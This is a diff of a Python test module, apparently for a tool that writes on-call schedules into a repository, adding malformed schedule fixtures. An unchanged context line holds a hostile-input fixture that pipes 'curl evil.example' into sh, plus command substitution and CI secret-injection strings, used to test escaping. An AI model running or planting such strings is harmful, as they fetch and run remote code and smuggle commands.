@@ -33,14 +33,54 @@ PERMISSIONS = {"ada": "admin", "mai": "write", "tri": "read"}
 NASTY = '"; curl evil.example | sh #\n::error::$(id) ${{ secrets.X }} `id` <!-- on-call 9 --> @everybody'
 
 
+def _layered(start: str, turn: int, *people: object) -> str:
+    layer = {
+        "rotation": "Israel",
+        "start": start,
+        "end": None,
+        "turn": turn,
+        "people": people,
+        "shift": 43200,
+    }
+    role = {"layers": [layer], "exceptions": []}
+    return json.dumps({"acknowledge_minutes": 10, "duties": {"primary": role, "secondary": role}})
+
+
 def provisioned(folder: Path) -> Path:
     """A checkout of a repository that has everything of Wing's own operation."""
     operation = load(WING)
-    files = {**render.files(operation, REPOSITORY), render.DATA: render.data(operation, SERVICE)}
+    files = {
+        **render.files(operation, REPOSITORY),
+        render.MEANINGS: render.meanings(operation, SERVICE),
+        render.ON_CALL: render.on_call(operation),
+    }
     for path, content in files.items():
         (folder / path).parent.mkdir(parents=True, exist_ok=True)
         (folder / path).write_text(content, encoding="utf-8")
     return folder
+
+
+UNREADABLE = [
+    None,
+    "",
+    "[]",
+    "<<<<<<< HEAD\n{}\n",
+    '{"acknowledge_minutes": 10}',
+    '{"acknowledge_minutes": 10, "duties": {"primary": {"layers": [], "exceptions": []}, "secondary": null}}',
+    _layered("tomorrow", 604800, "eladb"),
+    _layered("2026-11-23T03:00Z", 0, "eladb"),
+    _layered("2026-11-23T03:00Z", 604800),
+    _layered("2026-11-23T03:00Z", 604800, "eladb", 7),
+]
+"""What cannot be the data of who is on call; None is no file."""
+
+
+def unreadable(world: World, content: str | None) -> None:
+    """Put ``content`` in the place of the repository's data."""
+    path = world.folder / render.ON_CALL
+    path.unlink()
+    if content is not None:
+        path.write_text(content, encoding="utf-8")
 
 
 @dataclass
